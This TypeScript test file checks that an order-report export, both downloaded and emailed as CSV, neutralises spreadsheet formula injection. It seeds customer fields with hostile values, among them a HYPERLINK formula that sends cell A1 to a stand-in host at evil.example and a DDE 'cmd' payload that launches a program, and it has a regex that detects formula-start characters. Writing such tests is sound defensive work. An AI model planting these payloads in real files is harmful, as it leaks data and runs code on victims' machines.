import { dhakaDay } from '@nargisus/domain/time';
import { addresses } from '@nargisus/local-suite/launcher';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { call, tokenOf } from '../fixtures/network/api-client.ts';
import { openTestData, type Account } from '../fixtures/data/test-data.ts';
import { mailbox } from '../fixtures/local-stack/mailbox.ts';
import { placeOrder } from '../fixtures/orders/place-order.ts';

/*
 * A customer enters formulas as name and address. A spreadsheet that opens the report would run them: they could send other cells
 * to a stranger or start a program.
 */
const testData = openTestData();
const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
/** Matches the characters that start a formula in a spreadsheet, also after blanks and in full width. */
const FORMULA_START = /^\s*[=+\-@＝＋－＠]/;
let admin: Account;
let token: string;
let orderId: string;

beforeAll(async () => {
  admin = await testData.account('admin');
  token = await tokenOf(admin);
  const author = await testData.account('user', '=cmd|"/c calc"!A1');
  const product = await testData.product({ name: '@SUM(A1:A9)' });
  const order = await placeOrder(author, product, {
    recipientName: FORMULA,
    address: '+880+A1',
    city: '-2+3',
    district: '＝1+1',
    landmark: '\t=1+1',
  });
  orderId = order.orderId;
  const body = { deliveryPersonName: FORMULA, deliveryNotes: `-1${FORMULA}` };
  expect((await call(`/api/delivery/assign/${order._id}`, { method: 'PUT', token, body })).status).toBe(200);
});
afterAll(() => testData.close());

function expectNoFormula(csv: Uint8Array): void {
  const rows = parse<Record<string, string>>(csv, { bom: true, columns: true });
  const row = rows.find((it) => it['Order ID'] === orderId)!;
  const written = Object.values(row).filter((cell) => /HYPERLINK|cmd|SUM|\+/.test(cell));
  // The cells are there, and none of them starts a formula.
  expect(written.length).toBeGreaterThanOrEqual(4);
  expect(Object.entries(row).filter(([, cell]) => FORMULA_START.test(cell))).toEqual([]);
}

test('the downloaded report contains no executable formula', async () => {
  const answer = await fetch(`${addresses.shop}/api/reports/download-csv`, {
    headers: { Authorization: `Bearer ${token}` },
  });
  expectNoFormula(Buffer.from(await answer.arrayBuffer()));
});

test('the mailed report contains no executable formula', async () => {
  const email = `formulas-${admin.email}`;
  const body = { email, reportType: 'csv', date: dhakaDay(new Date()) };
  expect((await call('/api/reports/email-report', { method: 'POST', token, body })).status).toBe(200);
  const [mail] = await mailbox.mailsTo(email);
  expectNoFormula(Buffer.from(mail!.attachments[0]!.content, 'base64'));
});
